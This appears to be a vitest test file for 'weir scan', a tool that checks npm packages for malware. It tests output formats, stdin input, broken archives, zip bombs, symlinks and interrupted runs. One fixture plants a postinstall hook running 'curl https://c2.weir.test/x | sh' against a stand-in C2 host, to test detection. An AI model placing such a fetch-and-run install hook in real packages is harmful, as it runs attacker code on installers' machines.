import { spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { SAMPLES } from '@weir/detectors/samples';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../scan/result.ts';
import type { SarifLog } from '../scan/sarif/document.ts';
import { sarifValidator, scanResultValidator } from '../testing/json-schemas.ts';
import { newFolder, type ScanRun, startScan } from '../testing/run-scan.ts';

const cwd = newFolder('scan-cwd');
const tmp = newFolder('scan-tmp');
afterAll(() => {
  for (const folder of [cwd, tmp]) rmSync(folder, { recursive: true, force: true });
});

const problemsOf = scanResultValidator();
const MANIFEST = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' });

function write(name: string, bytes: string | Buffer): string {
  writeFileSync(join(cwd, name), bytes);
  return name;
}

function packed(files: Readonly<Record<string, string | Uint8Array>>): Buffer {
  const archive = tarball();
  for (const [path, content] of Object.entries(files)) archive.file(`package/${path}`, content);
  return archive.build();
}

const sample = SAMPLES['lifecycle-script']?.malicious.find(({ files }) => 'package.json' in files);
write('evil.tgz', packed(sample?.files ?? {}));
write('good.tgz', packed({ 'package.json': MANIFEST, 'index.js': 'module.exports = 1;\n' }));
mkdirSync(join(cwd, 'evil'));
for (const [path, content] of Object.entries(sample?.files ?? {}))
  write(join('evil', path), Buffer.from(content));

function scan(args: readonly string[], input?: string | Buffer): Promise<ScanRun> {
  return startScan(args, { cwd, tmp, input: input ?? '' }).ended;
}

/** The objects of an NDJSON run, each held to the committed schema. */
function resultsOf({ stdout }: ScanRun): ScanResult[] {
  return stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => {
      const result: ScanResult = JSON.parse(line);
      expect(problemsOf(result)).toEqual([]);
      return result;
    });
}

describe('weir scan', () => {
  it.each([
    [['good.tgz'], 0],
    [['good.tgz', 'evil.tgz', 'missing.tgz'], 1],
    [['good.tgz', 'missing.tgz'], 2],
    [['evil'], 1],
  ])('of %j ends with %d', async (targets, code) => {
    const run = await scan([...targets, '--format', 'ndjson']);

    expect(resultsOf(run).map(({ target }) => target)).toEqual(targets);
    expect(run.code).toBe(code);
  });

  it('sums several targets up on stderr, and says nothing there of one', async () => {
    const several = await scan(['good.tgz', 'evil.tgz']);
    const one = await scan(['good.tgz']);

    expect(several.stderr).toMatch(/^2 targets in \d+\.\d s: 1 malicious, 1 benign\n$/);
    expect(one.stderr).toBe('');
  });

  it('prints for a person without colours, when nobody watches', async () => {
    const { stdout } = await scan(['evil.tgz']);

    expect(stdout).toMatch(
      /^malicious {5}evil\.tgz {2}\(score \d+, level critical, malware, \d+ ms\)\n {4}critical {2}package\.json:5, runs at install/,
    );
    expect(stdout).not.toContain('\u001b');
  });
});

describe('weir scan --format sarif', () => {
  it('is one valid document, for archives and directories, found and failed', async () => {
    const run = await scan(['evil.tgz', 'evil', 'good.tgz', 'missing.tgz', '--format', 'sarif']);

    const log: SarifLog = JSON.parse(run.stdout);
    expect(sarifValidator()(log)).toEqual([]);
    const [first, second] = log.runs[0]?.results ?? [];
    const [inArchive, inDirectory] = [first, second].map((result) => result?.locations[0]?.physicalLocation);
    expect(inArchive).toMatchObject({
      artifactLocation: { uri: 'package/package.json' },
      region: { startLine: 5 },
    });
    expect(log.runs[0]?.artifacts[inArchive?.artifactLocation.index ?? -1]?.contents?.text).toBe(
      sample?.files['package.json'],
    );
    expect(inDirectory).toMatchObject({
      artifactLocation: { uri: 'evil/package.json', uriBaseId: 'SRCROOT' },
      region: { startLine: 5 },
    });
    expect(log.runs[0]?.invocations[0]).toMatchObject({ executionSuccessful: false, exitCode: 1 });
    expect(run.code).toBe(1);
  });
});

describe('weir scan --stdin', () => {
  it('explains every line that is no target, and goes on', async () => {
    const lines = [
      '',
      '   ',
      'good.tgz\r',
      '\0',
      'a\0b',
      '\u001b[31mred',
      'x'.repeat(1_000_000),
      '☃',
      '-1',
      'good.tgz',
    ];

    const run = await scan(['--stdin', '--format', 'ndjson'], lines.join('\n'));

    const results = resultsOf(run);
    expect(results.map(({ verdict }) => verdict)).toEqual([
      'benign',
      ...Array.from({ length: 6 }, () => null),
      'benign',
    ]);
    expect(results[4]?.error).toMatch(/a line of over 16384 characters is no target/);
    expect(results.every(({ error }) => error === null || !error.includes('\n'))).toBe(true);
    expect(run.stdout).not.toContain('\u001b');
    expect(run.code).toBe(2);
  });

  it('takes bytes that are no text', async () => {
    const run = await scan(['--stdin', '--format', 'ndjson'], Buffer.from([0xff, 0xfe, 0x0a, 0xc3, 0x0a]));

    expect(resultsOf(run).map(({ verdict }) => verdict)).toEqual([null, null]);
    expect(run.code).toBe(2);
  });
});

describe('bad usage of weir scan', () => {
  it.each(['0', '-1', 'abc'])('refuses --jobs %j', async (jobs) => {
    const run = await scan(['good.tgz', '--jobs', jobs]);

    expect(run).toMatchObject({ code: 2, stdout: '' });
    expect(run.stderr).toMatch(/whole number from 1 to 64/);
  });

  it.each([
    [[], /nothing to scan/],
    [['good.tgz', '--format', 'xml'], /Allowed choices are human, ndjson, sarif/],
    [['good.tgz', '--ecosystem', 'cargo'], /Allowed choices are npm/],
  ] as const)('refuses %j', async (args, message) => {
    const run = await scan([...args]);

    expect(run).toMatchObject({ code: 2, stdout: '' });
    expect(run.stderr).toMatch(message);
  });

  it('never asks the network when it is told not to', async () => {
    const run = await scan(['left-pad@1.3.0', 'pkg:npm/left-pad@1.3.0', '--offline', '--format', 'ndjson']);

    expect(resultsOf(run).map(({ error }) => error)).toEqual([
      'would need the network, and --offline was given',
      'would need the network, and --offline was given',
    ]);
    expect(run.code).toBe(2);
  });
});

describe('bad input of weir scan', () => {
  const evilBytes = packed(sample?.files ?? {});
  write('garbage.tgz', Buffer.from(Array.from({ length: 3_000 }, (_, index) => (index * 7_919) % 251)));
  write('empty.tgz', '');
  write('truncated.tgz', evilBytes.subarray(0, evilBytes.length / 2));
  write(
    'bomb.tgz',
    tarball()
      .file('package/package.json', MANIFEST)
      .bomb(2 ** 28)
      .build(),
  );
  write('text.tgz', 'hello\n');
  mkdirSync(join(cwd, 'bare'));
  write('bare/index.js', '1;\n');
  mkdirSync(join(cwd, 'void'));
  mkdirSync(join(cwd, 'loops'));
  write('loops/package.json', MANIFEST);
  write('loops/index.js', '1;\n');
  symlinkSync('..', join(cwd, 'loops', 'up'));
  symlinkSync('loop-b', join(cwd, 'loop-a'));
  symlinkSync('loop-a', join(cwd, 'loop-b'));

  const unreadable: readonly (readonly [target: string, reason: RegExp])[] = [
    ['garbage.tgz', /not a tar archive/],
    ['empty.tgz', /empty file/],
    ['truncated.tgz', /truncated/],
    ['text.tgz', /not a tar archive/],
    ['bare', /not a package: there is no package\.json/],
    ['void', /not a package: there is no package\.json/],
  ];
  const unfit: readonly (readonly [target: string, reason: string])[] = [
    ['missing.tgz', 'no such file or directory'],
    ['good.tgz/x.tgz', 'no such file or directory'],
    ['loop-a', 'is a symbolic link that leads back to itself'],
    ['', 'no such file or directory, nor a release: write a purl or name@version or name==version'],
    ['pkg:npm/x', 'the purl names no version; write pkg:TYPE/NAME@VERSION'],
    ...(process.platform === 'linux'
      ? ([
          ['/dev/null', 'is neither a file nor a directory'],
          ['/dev/zero', 'is neither a file nor a directory'],
        ] as const)
      : []),
  ];

  it('is inconclusive, and is told why in a line', async () => {
    const run = await scan(unreadable.map(([target]) => target));

    const told = run.stdout.split(/^(?=inconclusive )/m);
    expect(told).toHaveLength(unreadable.length);
    for (const [index, [target, reason]] of unreadable.entries()) {
      expect(told[index]).toMatch(new RegExp(`^inconclusive +${target}  `));
      expect(told[index]).toMatch(reason);
    }
    expect(run.code).toBe(2);
  });

  it('fails, and is told why in a line', async () => {
    const run = await scan(unfit.map(([target]) => target));

    expect(run.stdout).toBe(
      unfit.map(([target, reason]) => `failed        ${target}\n    ${reason}\n`).join(''),
    );
    expect(run.code).toBe(2);
  });

  it.runIf(process.platform !== 'win32')('waits for nobody to write to a pipe', async () => {
    spawnSync('mkfifo', [join(cwd, 'pipe')]);
    mkdirSync(join(cwd, 'with-pipe'));
    write('with-pipe/package.json', MANIFEST);
    spawnSync('mkfifo', [join(cwd, 'with-pipe', 'index.js')]);

    const run = await scan(['pipe', 'with-pipe', '--format', 'ndjson']);

    const [pipe, around] = resultsOf(run);
    expect(pipe?.error).toMatch(/neither a file nor a directory/);
    expect(around?.findings.map(({ id }) => id)).toContain('analysis/archive-device');
  });

  it.runIf(process.platform === 'linux')('says what cannot be read', async () => {
    // A regular file to `stat`, of which no read succeeds.
    const run = await scan(['/proc/self/mem', '--format', 'ndjson']);

    expect(resultsOf(run)[0]).toMatchObject({
      verdict: null,
      error: expect.stringMatching(/cannot be read/),
    });
    expect(run.code).toBe(2);
  });

  it.runIf(process.getuid?.() !== 0)('says what it may not read', async () => {
    write('secret.tgz', evilBytes);
    chmodSync(join(cwd, 'secret.tgz'), 0);

    const run = await scan(['secret.tgz', '--format', 'ndjson']);

    expect(resultsOf(run)[0]).toMatchObject({
      verdict: null,
      error: expect.stringMatching(/permission denied/),
    });
  });

  it('stops unpacking a bomb, and never calls it benign', async () => {
    const run = await scan(['bomb.tgz', '--format', 'ndjson']);

    const [result] = resultsOf(run);
    expect(result?.verdict).not.toBe('benign');
    expect(result?.complete).toBe(false);
    expect(result?.findings.map(({ id }) => id).join()).toMatch(/archive-budget-/);
    expect(run.code).not.toBe(0);
  });

  it('follows no link in a directory', async () => {
    const run = await scan(['loops', '--format', 'ndjson']);

    expect(resultsOf(run)[0]?.findings.map(({ id }) => id)).toEqual(['analysis/archive-link']);
    expect(run.code).toBe(0);
  });

  it('reads a file of the directory under the name that a link gives it, and says which links lead away', async () => {
    const away = join(cwd, 'away');
    for (const folder of ['linked', 'away']) mkdirSync(join(cwd, folder));
    write(
      'linked/package.json',
      JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }),
    );
    write('linked/kept.js', "require('child_process').execSync('curl https://c2.weir.test/x | sh');\n");
    symlinkSync('kept.js', join(cwd, 'linked', 'setup.js'));
    write('away/package.json', MANIFEST);
    symlinkSync('../bare/index.js', join(away, 'index.js'));

    const run = await scan(['linked', 'away', '--format', 'ndjson']);

    const [linked, led] = resultsOf(run);
    expect(linked?.verdict).toBe('malicious');
    expect(led).toMatchObject({ verdict: 'inconclusive', skipped: [{ file: 'index.js' }] });
  });

  it('does not call benign what grows while it is read', async () => {
    const filler = Array.from({ length: 40 }, (_, index) => [
      `f${index}.js`,
      `exports.x = ${'1+'.repeat(20_000)}1;\n`,
    ]);
    const path = join(cwd, 'grows.tgz');
    writeFileSync(path, packed({ 'package.json': MANIFEST, ...Object.fromEntries(filler) }));
    const writing = setInterval(() => appendFileSync(path, Buffer.alloc(512)), 1);

    const run = await scan(['grows.tgz', '--format', 'ndjson']).finally(() => clearInterval(writing));

    expect(resultsOf(run)[0]).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(run.code).toBe(2);
  });
});

describe.runIf(process.platform !== 'win32')('weir scan that is left early', () => {
  const many = Array.from({ length: 200 }, () => 'evil.tgz');

  function leftovers(): string[] {
    return readdirSync(tmp);
  }

  it('ends quietly when nobody reads its output any more, and leaves nothing behind', async () => {
    const { child, ended } = startScan([...many, '--format', 'ndjson'], { cwd, tmp });
    await once(child.stdout ?? child, 'data');

    child.stdout?.destroy();

    // A part of the targets was not come to, and one was malicious.
    expect(await ended).toMatchObject({ code: 1, signal: null, stderr: '' });
    expect(leftovers()).toEqual([]);
  });

  it('does not call clean what it was kept from looking at', async () => {
    const { child, ended } = startScan(['--stdin', '--format', 'ndjson'], { cwd, tmp, input: null });
    child.stdin?.write('good.tgz\n');
    await once(child.stdout ?? child, 'data');

    child.stdout?.destroy();
    child.stdin?.write('good.tgz\ngood.tgz\n');

    expect(await ended).toMatchObject({ code: 2, signal: null, stderr: '' });
    expect(leftovers()).toEqual([]);
  });

  it.each(['SIGINT', 'SIGTERM'] as const)(
    'ends by %s to all of it, as Ctrl-C does, without calling targets failed',
    async (name) => {
      const { child, ended } = startScan([...many, '--stdin'], { cwd, tmp, input: null });
      await once(child.stdout ?? child, 'data');

      process.kill(-(child.pid ?? 0), name);

      const run = await ended;
      expect(run).toMatchObject({ code: null, signal: name, stderr: '' });
      expect(run.stdout).not.toContain('failed');
      expect(leftovers()).toEqual([]);
    },
  );

  it('writes no half of a SARIF document', async () => {
    const { child, ended } = startScan(['good.tgz', '--stdin', '--format', 'sarif'], {
      cwd,
      tmp,
      input: null,
    });
    // The first scratch folder says that it is at work.
    while (leftovers().length === 0) await new Promise((resolve) => setTimeout(resolve, 5));

    child.kill('SIGINT');

    expect(await ended).toMatchObject({ signal: 'SIGINT', stdout: '' });
    expect(leftovers()).toEqual([]);
  });
});
